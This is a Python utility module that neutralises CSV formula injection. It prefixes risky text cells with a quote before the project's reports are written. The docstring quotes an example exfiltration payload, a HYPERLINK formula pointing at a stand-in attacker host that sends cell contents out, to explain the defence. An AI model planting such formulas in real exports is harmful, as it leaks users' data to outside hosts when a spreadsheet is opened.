"""Every CSV the project writes goes through here, so no cell runs as a spreadsheet formula.

Titles, identifiers, dates and file names come from archives and uploads: a cell such as
`=HYPERLINK("http://evil.example/?"&A1)` or `@SUM(...)` runs when a cataloguer opens the
report in Excel or LibreOffice (CSV formula injection). As OWASP recommends, a text cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading single quote, which
spreadsheets show as plain text. Numbers stay numbers: ints and floats are never touched, and
neither is text that is a plain number ("-12", "+3.5", "-1e-3"), so negative years and
metrics read back unchanged.

Use `writer(handle)` / `dict_writer(handle, fieldnames)` wherever you would use csv.writer /
csv.DictWriter (same arguments), or `safe_cell` / `safe_row` on values you write yourself.
Users: dedupe --report, export's manifest.csv, balance's table, predict's CSV, oof.csv,
history.csv. Benchmark outputs (benchmarks/results) are our own numbers and stay plain.

>>> safe_row(["=1+2", "-5", -5, "@x", "plain", "\\tx", None])
["'=1+2", '-5', -5, "'@x", 'plain', "'\\tx", None]
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value`, with a leading ' when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """csv.writer whose rows are neutralised cell by cell."""

    def __init__(self, handle, *args, **kwargs) -> None:
        self._writer = csv.writer(handle, *args, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """csv.DictWriter whose values are neutralised (the header is ours and is written as is)."""

    def writeheader(self) -> Any:
        return self.writer.writerow(self.fieldnames)

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def writer(handle, *args, **kwargs) -> SafeWriter:
    """Like csv.writer(handle, ...), neutralising formula cells."""
    return SafeWriter(handle, *args, **kwargs)


def dict_writer(handle, fieldnames, *args, **kwargs) -> SafeDictWriter:
    """Like csv.DictWriter(handle, fieldnames, ...), neutralising formula cells."""
    return SafeDictWriter(handle, fieldnames, *args, **kwargs)
